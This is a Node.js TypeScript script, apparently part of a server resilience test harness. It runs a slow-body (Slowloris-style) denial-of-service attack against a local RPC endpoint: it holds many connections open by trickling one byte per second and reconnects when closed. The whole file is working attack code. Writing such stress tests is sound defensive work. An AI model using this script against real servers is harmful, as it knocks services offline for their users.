/**
 * Attack: slow request bodies. `node slowBodies.js PORT CONNECTIONS DECLARED_BYTES` opens CONNECTIONS TCP connections
 * from ATTACKER_HOST to the RPC port on 127.0.0.1, each sending the headers of a `POST /v1/txs` that declares
 * DECLARED_BYTES of body, then one body byte per connection per second. A connection the server closes (408, 429,
 * 503, ...) is opened again after 100 ms, so the attack holds its connections for as long as it runs. Once a second
 * it prints one JSON line: `{"open", "opened", "answers": {status: count}}`; it runs until SIGTERM.
 */
import { connect } from "node:net";
import type { Socket } from "node:net";
import { ATTACKER_HOST } from "../support.js";

const [portArg, connArg, declaredArg] = process.argv.slice(2);
const port = Number(portArg);
const connections = Number(connArg ?? 80);
const declared = Number(declaredArg ?? 1024 * 1024);
const answers: Record<string, number> = {};
let open = 0;
let opened = 0;
const sockets = new Set<Socket>();

function openOne(): void {
  const s = connect({ host: "127.0.0.1", port, localAddress: ATTACKER_HOST });
  sockets.add(s);
  let counted = false;
  s.on("connect", () => {
    open++;
    opened++;
    s.write(`POST /v1/txs HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: ${declared}\r\n\r\n{`);
  });
  s.on("data", (d: Buffer) => {
    const m = /^HTTP\/1\.1 (\d{3})/.exec(d.toString("latin1"));
    if (m !== null && !counted) {
      counted = true;
      answers[m[1]!] = (answers[m[1]!] ?? 0) + 1;
    }
  });
  s.on("error", () => {});
  s.on("close", () => {
    if (sockets.delete(s)) open = Math.max(0, open - 1);
    setTimeout(openOne, 100);
  });
}

for (let i = 0; i < connections; i++) openOne();
// The trickle: one byte per open connection per second (well below any minimum rate a server could demand).
const trickle = setInterval(() => {
  for (const s of sockets) if (!s.destroyed && s.writable) s.write(" ");
  process.stdout.write(`${JSON.stringify({ open, opened, answers })}\n`);
}, 1000);
process.on("SIGTERM", () => {
  clearInterval(trickle);
  for (const s of sockets) s.destroy();
  process.exit(0);
});
